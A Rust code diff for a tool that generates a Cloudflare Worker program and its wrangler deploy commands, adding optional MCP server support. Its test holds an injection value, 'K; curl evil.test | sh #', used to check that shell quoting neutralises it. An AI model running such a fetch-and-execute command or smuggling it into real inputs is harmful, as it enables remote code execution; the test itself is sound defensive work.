@@ -4,10 +4,13 @@ use indexmap::{IndexMap, IndexSet};
 use stepweave_core::document::{Document, Secret};
 
 use crate::model::endpoints::is_endpoint;
-use crate::model::requests::{called_origins, is_open, requests, secret_of, token_origin};
+use crate::model::requests::{asks_servers, called_origins, is_open, requests, secret_of, token_origin};
 
 /// The program, with marks where the document, the origins that it may reach, and its keys go.
 const PROGRAM: &str = include_str!("worker.js");
+
+/// What calls the tools of MCP servers, where a document has any.
+const MCP: &str = "\nimport \"stepweave/mcp\";";
 
 /// The binding of the Worker that is its own: what callers have to send.
 pub const ACCESS_TOKEN: &str = "ACCESS_TOKEN";
@@ -34,13 +37,19 @@ impl Reach {
 
 /// The program, with the document in it. It has the names of keys, never their values.
 pub fn program(document: &Document, reach: &Reach) -> String {
+    let imports = if asks_servers(document) { MCP } else { "" };
     // A document is plain data with text keys, which always has a JSON form; so have the names.
     let document = in_template(&serde_json::to_string_pretty(document).unwrap_or_default());
     let origins = serde_json::to_string(&reach.origins).unwrap_or_default();
     let keys = serde_json::to_string(&reach.keys.iter().collect::<Vec<_>>()).unwrap_or_default();
     let mut program = String::new();
     let mut rest = PROGRAM;
-    for (mark, value) in [("/* document */", &document), ("/* origins */", &origins), ("/* keys */", &keys)] {
+    for (mark, value) in [
+        ("/* imports */", imports),
+        ("/* document */", &document),
+        ("/* origins */", &origins),
+        ("/* keys */", &keys),
+    ] {
         let (head, tail) = rest.split_once(mark).unwrap_or((rest, ""));
         program.extend([head, value]);
         rest = tail;
@@ -70,16 +79,16 @@ pub fn reach(document: &Document, origin: impl Fn(&str) -> Option<String>) -> Re
         }
     }
     for request in requests(document) {
-        if is_open(request) {
+        if is_open(&request) {
             problems.push(
                 "A request goes wherever the data of a run leads: list the sites that it may go to."
                     .to_owned(),
             );
         }
-        let called = called_origins(request);
-        let token = token_origin(request);
+        let called = called_origins(&request);
+        let token = token_origin(&request);
         origins.extend(called.iter().chain(&token).cloned());
-        if let Some(secret) = secret_of(request) {
+        if let Some(secret) = secret_of(&request) {
             for origin in called {
                 let whose = format!("request to {origin}");
                 let goes_to = token.iter().cloned().chain([origin]).collect();
@@ -129,11 +138,17 @@ pub fn listed(origins: &IndexSet<String>) -> String {
 }
 
 /// What a person types to serve the program of this file under this name.
-pub fn commands<'a>(name: &str, file: &str, keys: impl Iterator<Item = &'a String>) -> String {
+pub fn commands<'a>(
+    document: &Document,
+    name: &str,
+    file: &str,
+    keys: impl Iterator<Item = &'a String>,
+) -> String {
+    let client = if asks_servers(document) { " @modelcontextprotocol/client" } else { "" };
     let (name, file) = (quoted(name), quoted(file));
     let set = keys.map(|key| format!("npx wrangler@4 secret put {} --name {name}\n", quoted(key)));
     format!(
-        "npm install stepweave\nnpx wrangler@4 deploy {file} --name {name} --compatibility-date 2026-04-01 --compatibility-flag enable_request_signal\n{}",
+        "npm install stepweave{client}\nnpx wrangler@4 deploy {file} --name {name} --compatibility-date 2026-04-01 --compatibility-flag enable_request_signal\n{}",
         set.collect::<String>()
     )
 }
@@ -271,9 +286,10 @@ mod tests {
 
     #[test]
     fn commands_hold_words_only() {
-        let told = commands("my-flow", "my-flow.js", ["OWN".to_owned()].iter());
+        let told = commands(&Document::new("t"), "my-flow", "my-flow.js", ["OWN".to_owned()].iter());
         assert!(told.ends_with("npx wrangler@4 secret put OWN --name my-flow\n"), "{told}");
-        let told = commands("it's", "$(x).js", ["K; curl evil.test | sh #".to_owned()].iter());
+        let told =
+            commands(&Document::new("t"), "it's", "$(x).js", ["K; curl evil.test | sh #".to_owned()].iter());
         assert!(told.contains(r"deploy '$(x).js' --name 'it'\''s' "), "{told}");
         assert!(told.ends_with("secret put 'K; curl evil.test | sh #' --name 'it'\\''s'\n"), "{told}");
     }
